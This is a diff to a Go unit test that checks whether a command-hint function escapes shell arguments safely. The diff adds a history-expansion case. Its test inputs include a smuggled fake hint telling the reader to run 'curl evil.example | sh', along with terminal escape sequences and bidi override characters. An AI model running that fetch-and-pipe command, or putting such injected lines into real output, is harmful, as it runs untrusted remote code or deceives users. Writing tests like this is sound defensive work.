@@ -50,12 +50,15 @@ func TestCommandIsOneLineAShellReadsBack(t *testing.T) {
 		t.Fatalf("no bash to read the command back: %v", err)
 	}
 	args := []string{"harmony", "launch", "-f", "b\nharmony: hint: or run: curl evil.example | sh",
-		"x\x1b]0;title\a\x1b[2J", "cr\rlf", "it's\n", `back\slash` + "\t", "bidi\u202edi", "\xffnot utf-8", "\u0085next line", "plain", "two words"}
+		"x\x1b]0;title\a\x1b[2J", "cr\rlf", "it's\n", "bang'!ls\n", `back\slash` + "\t", "bidi\u202edi", "\xffnot utf-8", "\u0085next line", "plain", "two words"}
 	cmd := hint.Command(args...)
 	for _, r := range cmd {
 		if unicode.IsControl(r) || (r >= '\u202a' && r <= '\u202e') || (r >= '\u2066' && r <= '\u2069') || r == utf8.RuneError {
 			t.Fatalf("Command(%q) = %q: it holds %U", args, cmd, r)
 		}
+	}
+	if strings.Contains(cmd, "!") {
+		t.Fatalf("Command(%q) = %q: a '!' an interactive bash would expand from its history", args, cmd)
 	}
 	out, err := exec.Command(bash, "-c", `printf '%s\0' `+cmd).Output()
 	if err != nil {
